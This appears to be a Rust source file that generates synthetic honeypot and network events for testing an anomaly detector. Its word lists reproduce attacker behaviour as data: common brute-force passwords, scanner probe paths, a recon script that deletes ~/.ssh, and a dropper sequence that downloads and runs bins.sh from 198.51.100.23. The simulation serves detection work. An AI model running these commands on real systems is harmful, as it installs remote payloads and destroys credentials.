//! Names, words and shared strings the generated events are made of.
//!
//! The honeypot word lists follow what real Cowrie logs show: `root` dominates user names,
//! `123456` passwords, `SSH-2.0-Go` and `libssh` client banners, and logged-in bots run the
//! same short reconnaissance script.

use std::sync::Arc;

use chrono::{DateTime, TimeDelta, Utc};
use vigil_sensors::{Event, EventKind, Label, Origin, Sensor, Transport};

use crate::config::{
    CLASS_BRUTE_FORCE, CLASS_NEW_SERVICE, CLASS_NORMAL, CLASS_PORT_SCAN, CLASS_TRAFFIC_SPIKE,
};

/// Ground truth of a generated event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Truth {
    Normal,
    NewService,
    BruteForce,
    PortScan,
    TrafficSpike,
}

impl Truth {
    const ALL: [Truth; 5] = [
        Truth::Normal,
        Truth::NewService,
        Truth::BruteForce,
        Truth::PortScan,
        Truth::TrafficSpike,
    ];

    fn label(self) -> Label {
        let (class, anomalous) = match self {
            Truth::Normal => (CLASS_NORMAL, false),
            Truth::NewService => (CLASS_NEW_SERVICE, false),
            Truth::BruteForce => (CLASS_BRUTE_FORCE, true),
            Truth::PortScan => (CLASS_PORT_SCAN, true),
            Truth::TrafficSpike => (CLASS_TRAFFIC_SPIKE, true),
        };
        Label {
            class: Arc::from(class),
            anomalous,
        }
    }
}

/// Application protocols the demo speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Proto {
    Ssh,
    Telnet,
    Http,
    Dns,
    Tls,
    Imap,
    Smtp,
    Ntp,
    Stun,
    Mqtt,
}

impl Proto {
    const ALL: [Proto; 10] = [
        Proto::Ssh,
        Proto::Telnet,
        Proto::Http,
        Proto::Dns,
        Proto::Tls,
        Proto::Imap,
        Proto::Smtp,
        Proto::Ntp,
        Proto::Stun,
        Proto::Mqtt,
    ];

    fn as_str(self) -> &'static str {
        match self {
            Proto::Ssh => "ssh",
            Proto::Telnet => "telnet",
            Proto::Http => "http",
            Proto::Dns => "dns",
            Proto::Tls => "tls",
            Proto::Imap => "imap",
            Proto::Smtp => "smtp",
            Proto::Ntp => "ntp",
            Proto::Stun => "stun",
            Proto::Mqtt => "mqtt",
        }
    }
}

/// The sensor's own record names, Cowrie's for honeypot sessions.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Raw {
    CowrieConnect,
    CowrieClientVersion,
    CowrieLoginFailed,
    CowrieLoginSuccess,
    CowrieCommand,
    CowrieClosed,
    SshdConnect,
    SshdClientVersion,
    SshdAuthFailed,
    SshdAuthSuccess,
    SshdCommand,
    SshdClosed,
    HttpRequest,
    DnsQuery,
    Flow,
}

impl Raw {
    const ALL: [Raw; 15] = [
        Raw::CowrieConnect,
        Raw::CowrieClientVersion,
        Raw::CowrieLoginFailed,
        Raw::CowrieLoginSuccess,
        Raw::CowrieCommand,
        Raw::CowrieClosed,
        Raw::SshdConnect,
        Raw::SshdClientVersion,
        Raw::SshdAuthFailed,
        Raw::SshdAuthSuccess,
        Raw::SshdCommand,
        Raw::SshdClosed,
        Raw::HttpRequest,
        Raw::DnsQuery,
        Raw::Flow,
    ];

    fn as_str(self) -> &'static str {
        match self {
            Raw::CowrieConnect => "cowrie.session.connect",
            Raw::CowrieClientVersion => "cowrie.client.version",
            Raw::CowrieLoginFailed => "cowrie.login.failed",
            Raw::CowrieLoginSuccess => "cowrie.login.success",
            Raw::CowrieCommand => "cowrie.command.input",
            Raw::CowrieClosed => "cowrie.session.closed",
            Raw::SshdConnect => "sshd.session.open",
            Raw::SshdClientVersion => "sshd.client.version",
            Raw::SshdAuthFailed => "sshd.auth.failed",
            Raw::SshdAuthSuccess => "sshd.auth.accepted",
            Raw::SshdCommand => "sshd.command",
            Raw::SshdClosed => "sshd.session.close",
            Raw::HttpRequest => "http.request",
            Raw::DnsQuery => "dns.query",
            Raw::Flow => "flow",
        }
    }
}

/// Shared strings, built once so each event only bumps reference counts.
#[derive(Debug)]
pub(crate) struct Vocabulary {
    start: DateTime<Utc>,
    sensor_id: Arc<str>,
    source: Arc<str>,
    labels: Vec<Label>,
    protos: Vec<Arc<str>>,
    raws: Vec<Arc<str>>,
}

/// `origin.source` of every demo event.
pub(crate) const ORIGIN_SOURCE: &str = "demo";

impl Vocabulary {
    pub(crate) fn new(start: DateTime<Utc>, sensor_id: &str) -> Self {
        Vocabulary {
            start,
            sensor_id: Arc::from(sensor_id),
            source: Arc::from(ORIGIN_SOURCE),
            labels: Truth::ALL.iter().map(|t| t.label()).collect(),
            protos: Proto::ALL.iter().map(|p| Arc::from(p.as_str())).collect(),
            raws: Raw::ALL.iter().map(|r| Arc::from(r.as_str())).collect(),
        }
    }

    /// Event time `micros` after the start (saturating far in the future).
    pub(crate) fn time(&self, micros: i64) -> DateTime<Utc> {
        self.start
            .checked_add_signed(TimeDelta::microseconds(micros))
            .unwrap_or(DateTime::<Utc>::MAX_UTC)
    }

    pub(crate) fn proto(&self, proto: Proto) -> Arc<str> {
        Arc::clone(&self.protos[proto as usize])
    }

    /// A bare event with time, sensor, kind, record name and ground truth filled in.
    pub(crate) fn event(&self, micros: i64, kind: EventKind, raw: Raw, truth: Truth) -> Event {
        let origin = Origin {
            source: Arc::clone(&self.source),
            offset: 0,
            round: 0,
        };
        let mut event = Event::new(
            self.time(micros),
            Sensor::Demo,
            Arc::clone(&self.sensor_id),
            kind,
            origin,
        );
        event.raw_kind = Some(Arc::clone(&self.raws[raw as usize]));
        event.label = Some(self.labels[truth as usize].clone());
        event
    }
}

/// An outbound service internal clients use, with its traffic shape.
#[derive(Debug, Clone, Copy)]
pub(crate) struct FlowProfile {
    pub(crate) port: u16,
    pub(crate) transport: Transport,
    pub(crate) proto: Proto,
    /// Median bytes client to server.
    pub(crate) bytes_out: f64,
    /// Median bytes server to client.
    pub(crate) bytes_in: f64,
    /// Log-space spread of the byte counts.
    pub(crate) sigma: f64,
    /// Median flow duration, seconds.
    pub(crate) duration: f64,
}

pub(crate) const FLOW_PROFILES: [FlowProfile; 6] = [
    FlowProfile {
        port: 443,
        transport: Transport::Tcp,
        proto: Proto::Tls,
        bytes_out: 1_800.0,
        bytes_in: 45_000.0,
        sigma: 1.4,
        duration: 4.0,
    },
    FlowProfile {
        port: 993,
        transport: Transport::Tcp,
        proto: Proto::Imap,
        bytes_out: 1_500.0,
        bytes_in: 9_000.0,
        sigma: 1.0,
        duration: 30.0,
    },
    FlowProfile {
        port: 587,
        transport: Transport::Tcp,
        proto: Proto::Smtp,
        bytes_out: 25_000.0,
        bytes_in: 1_200.0,
        sigma: 1.2,
        duration: 1.5,
    },
    FlowProfile {
        port: 123,
        transport: Transport::Udp,
        proto: Proto::Ntp,
        bytes_out: 76.0,
        bytes_in: 76.0,
        sigma: 0.0,
        duration: 0.03,
    },
    FlowProfile {
        port: 3478,
        transport: Transport::Udp,
        proto: Proto::Stun,
        bytes_out: 900.0,
        bytes_in: 900.0,
        sigma: 0.8,
        duration: 10.0,
    },
    FlowProfile {
        port: 22,
        transport: Transport::Tcp,
        proto: Proto::Ssh,
        bytes_out: 3_000.0,
        bytes_in: 80_000.0,
        sigma: 1.1,
        duration: 5.0,
    },
];

pub(crate) const CLIENT_DOMAINS: [&str; 24] = [
    "github.com",
    "api.github.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "teams.microsoft.com",
    "www.google.com",
    "mail.google.com",
    "fonts.googleapis.com",
    "cdn.jsdelivr.net",
    "slack.com",
    "edgeapi.slack.com",
    "ntp.ubuntu.com",
    "security.ubuntu.com",
    "archive.ubuntu.com",
    "crates.io",
    "static.crates.io",
    "index.docker.io",
    "registry-1.docker.io",
    "en.wikipedia.org",
    "www.youtube.com",
    "zoom.us",
    "intranet.corp.example",
    "wiki.corp.example",
    "vpn.corp.example",
];

pub(crate) const BROWSE_PATHS: [&str; 12] = [
    "/",
    "/api/v2/events",
    "/static/js/main.js",
    "/static/css/site.css",
    "/search?q=rust+async",
    "/v1/messages",
    "/favicon.ico",
    "/login",
    "/graphql",
    "/api/v1/users/me",
    "/images/banner.webp",
    "/feed",
];

/// Paths web scanners try on any server they find.
pub(crate) const PROBE_PATHS: [&str; 14] = [
    "/",
    "/robots.txt",
    "/.env",
    "/wp-login.php",
    "/admin",
    "/phpmyadmin/",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci",
    "/.git/config",
    "/favicon.ico",
    "/actuator/health",
    "/HNAP1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/server-status",
];

pub(crate) const SITE_PAGES: [&str; 8] = [
    "/",
    "/blog/",
    "/blog/2025/12/honeypot-notes",
    "/blog/2026/01/ssh-keys",
    "/about",
    "/contact",
    "/feed.xml",
    "/docs/getting-started",
];

pub(crate) const SITE_ASSETS: [&str; 6] = [
    "/assets/app.js",
    "/assets/style.css",
    "/images/logo.png",
    "/images/hero.jpg",
    "/fonts/inter.woff2",
    "/favicon.ico",
];

/// Ports habitual scanners probe (besides the honeypot's SSH, Telnet and web ports).
pub(crate) const PROBE_PORTS: [u16; 14] = [
    445, 3389, 5900, 8080, 6379, 1433, 3306, 2375, 9200, 8443, 5432, 27017, 8888, 7547,
];

/// Failed logins per habitual-scanner honeypot session and their weights: real Cowrie
/// logs show almost all sessions with zero or one attempt.
pub(crate) const HONEYPOT_FAILED_LOGINS: [(u64, u32); 4] = [(0, 30), (1, 62), (2, 6), (3, 2)];

pub(crate) const HONEYPOT_USERS: [(&str, u32); 20] = [
    ("root", 40),
    ("admin", 6),
    ("test", 4),
    ("user", 4),
    ("ubuntu", 4),
    ("oracle", 3),
    ("postgres", 3),
    ("git", 2),
    ("ftpuser", 2),
    ("nproc", 2),
    ("support", 2),
    ("pi", 2),
    ("guest", 1),
    ("mysql", 1),
    ("hadoop", 1),
    ("solana", 1),
    ("deploy", 1),
    ("ansible", 1),
    ("www", 1),
    ("administrator", 1),
];

pub(crate) const HONEYPOT_PASSWORDS: [(&str, u32); 20] = [
    ("123456", 15),
    ("password", 6),
    ("123", 5),
    ("admin", 5),
    ("root", 5),
    ("12345", 3),
    ("1234", 3),
    ("123456789", 2),
    ("qwerty", 2),
    ("1q2w3e4r", 2),
    ("test", 2),
    ("abc123", 2),
    ("password123", 2),
    ("P@ssw0rd", 1),
    ("raspberry", 1),
    ("ubnt", 1),
    ("toor", 1),
    ("111111", 1),
    ("changeme", 1),
    ("", 1),
];

pub(crate) const SCANNER_SSH_CLIENTS: [(&str, u32); 7] = [
    ("SSH-2.0-Go", 30),
    ("SSH-2.0-libssh-0.6.3", 20),
    ("SSH-2.0-libssh2_1.4.3", 12),
    ("SSH-2.0-PUTTY", 10),
    ("SSH-2.0-paramiko_2.11.0", 3),
    ("SSH-2.0-OpenSSH_7.4", 2),
    ("SSH-2.0-ZGrab ZGrab SSH Survey", 2),
];

/// What a logged-in bot typically runs to size up the machine, in order.
pub(crate) const RECON_SCRIPT: [&str; 12] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "top",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd ~ && rm -rf .ssh && mkdir .ssh",
];

pub(crate) const SHORT_RECON_COMMANDS: [&str; 8] = [
    "uname -s -v -n -r -m",
    "echo Hi | cat -n",
    "cat /proc/cpuinfo",
    "ifconfig",
    "ps -ef | grep '[Mm]iner'",
    "uptime",
    "nproc",
    "uname -a",
];

/// Commands per short reconnaissance session.
pub(crate) const SHORT_RECON_COMMANDS_PER_SESSION: (u64, u64) = (1, 3);

/// What a brute forcer runs once a password works: fetch and start a payload.
pub(crate) const DROPPER_COMMANDS: [&str; 7] = [
    "uname -a",
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://198.51.100.23/bins.sh",
    "curl -O http://198.51.100.23/bins.sh",
    "chmod 777 bins.sh",
    "sh bins.sh",
    "rm -rf bins.sh",
];

pub(crate) const BRUTE_FORCE_CLIENTS: [&str; 4] = [
    "SSH-2.0-libssh2_1.4.3",
    "SSH-2.0-Go",
    "SSH-2.0-libssh-0.6.3",
    "SSH-2.0-paramiko_2.11.0",
];

pub(crate) const ADMIN_USERS: [&str; 10] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
];

pub(crate) const ADMIN_SSH_CLIENTS: [&str; 4] = [
    "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13",
    "SSH-2.0-OpenSSH_9.7",
    "SSH-2.0-PuTTY_Release_0.81",
    "SSH-2.0-OpenSSH_for_Windows_9.5",
];

pub(crate) const ADMIN_COMMAND_LINES: [&str; 12] = [
    "sudo systemctl status nginx",
    "df -h",
    "journalctl -u nginx --since today",
    "tail -n 100 /var/log/syslog",
    "htop",
    "git pull",
    "docker ps",
    "sudo apt list --upgradable",
    "ls -la /srv/www",
    "free -h",
    "uptime",
    "exit",
];
